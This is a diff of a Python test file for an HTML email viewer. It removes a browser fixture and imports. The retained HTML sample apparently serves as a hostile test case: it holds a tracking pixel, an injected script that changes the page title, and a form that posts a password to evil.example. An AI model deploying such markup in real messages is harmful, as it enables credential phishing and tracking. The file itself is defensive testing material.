@@ -2,14 +2,11 @@
 
 import struct
 import zlib
-from collections.abc import Iterator
 from email.message import EmailMessage
 from pathlib import Path
 
-import pytest
 from playwright.sync_api import expect
 
-from tests.servers import chromium as browsers
 from tests.servers.chromium import Chromium
 from tests.walk.lab import Lab, mail
 from tests.walk.service import rows
@@ -19,14 +16,6 @@ HTML = """<html><head><style>p { color: red }</style></head><body>
 <p>The page is <b>white</b>, as here:</p><img src="cid:screen@client.example" alt="the screen">
 <img src="https://track.example/open.gif" alt=""><script>document.title = "taken over"</script>
 <form action="https://evil.example/"><input name="password"></form></body></html>"""
-
-
-@pytest.fixture(scope="module")
-def chromium() -> Iterator[Chromium]:
-    if reason := browsers.available():
-        pytest.skip(reason)
-    with browsers.running() as browser:
-        yield browser
 
 
 def _png(wide: int, high: int) -> bytes:
